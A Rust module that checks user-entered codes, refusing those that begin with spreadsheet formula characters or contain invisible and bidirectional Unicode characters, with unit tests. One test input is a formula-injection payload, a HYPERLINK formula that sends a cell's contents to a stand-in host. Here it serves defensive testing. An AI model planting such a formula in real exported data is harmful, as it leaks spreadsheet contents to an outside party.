//! Codes that people enter: an account, who took an order. Everybody must see the same code, in a spreadsheet too.

/// Why a code is refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CodeError {
    /// A spreadsheet would take it for a formula.
    #[error(
        "{found:?} begins with '{sign}', which a spreadsheet takes for a formula: begin with a letter or a digit"
    )]
    Formula {
        /// The code.
        found: String,
        /// Its first character.
        sign: char,
    },
    /// It contains a character that nobody sees, or that changes the order in which the others are shown.
    #[error("{found:?} contains an invisible character (U+{:04X}): write visible characters and plain spaces", *character as u32)]
    Invisible {
        /// The code.
        found: String,
        /// The first such character.
        character: char,
    },
}

/// Checks a code; whether it is empty or too long is for the caller to check.
///
/// # Errors
/// `Formula`, `Invisible`.
pub fn check(code: &str) -> Result<(), CodeError> {
    if let Some(character) = code.chars().find(|c| is_invisible(*c)) {
        let found = code.to_owned();
        return Err(CodeError::Invisible { found, character });
    }
    match code.chars().next() {
        Some(sign) if begins_formula(sign) => {
            let found = code.to_owned();
            Err(CodeError::Formula { found, sign })
        }
        _ => Ok(()),
    }
}

/// Whether a spreadsheet takes a text with this first character for a formula; in some, full-width forms count too.
pub(crate) fn begins_formula(first: char) -> bool {
    matches!(
        first,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠'
    )
}

/// Controls, format and bidirectional characters, fillers, variation selectors, tags, and every space but the plain one:
/// Unicode's `Default_Ignorable_Code_Point`, `Bidi_Control` and `White_Space`.
fn is_invisible(character: char) -> bool {
    let ignorable = matches!(
        character,
        '\u{ad}'
            | '\u{34f}'
            | '\u{61c}'
            | '\u{115f}'..='\u{1160}'
            | '\u{17b4}'..='\u{17b5}'
            | '\u{180b}'..='\u{180f}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}'
            | '\u{2800}'
            | '\u{3164}'
            | '\u{fe00}'..='\u{fe0f}'
            | '\u{feff}'
            | '\u{ffa0}'
            | '\u{fff0}'..='\u{fffb}'
            | '\u{1bca0}'..='\u{1bca3}'
            | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}'
    );
    ignorable || character.is_control() || character.is_whitespace() && character != ' '
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_codes_are_taken() {
        for code in [
            "A-1001",
            "Müller & Söhne",
            "dana.whitfield",
            "株式会社",
            "7+1",
            "a@b",
        ] {
            assert_eq!(check(code), Ok(()), "{code}");
        }
    }

    #[test]
    fn a_formula_is_refused() {
        for code in [
            "=HYPERLINK(\"http://x.example/?d=\"&A1,\"ok\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "＝1+1",
            "＠SUM(A1)",
        ] {
            assert!(
                matches!(check(code), Err(CodeError::Formula { .. })),
                "{code}"
            );
        }
        assert_eq!(
            check("=1").unwrap_err().to_string(),
            "\"=1\" begins with '=', which a spreadsheet takes for a formula: begin with a letter or a digit"
        );
    }

    #[test]
    fn a_character_that_nobody_sees_is_refused() {
        for code in [
            "A\u{200b}1",
            "A\u{202e}1",
            "\u{feff}A",
            "A\u{2066}1",
            "A\u{a0}1",
            "A\u{3164}",
            "A\t1",
            "A\u{ad}1",
            "A\u{fe0f}",
            "A\u{e0041}",
            "A\u{2028}1",
            "\u{61c}A",
        ] {
            assert!(
                matches!(check(code), Err(CodeError::Invisible { .. })),
                "{code:?}"
            );
        }
        assert_eq!(
            check("A\u{202e}1").unwrap_err().to_string(),
            "\"A\\u{202e}1\" contains an invisible character (U+202E): write visible characters and plain spaces"
        );
    }
}
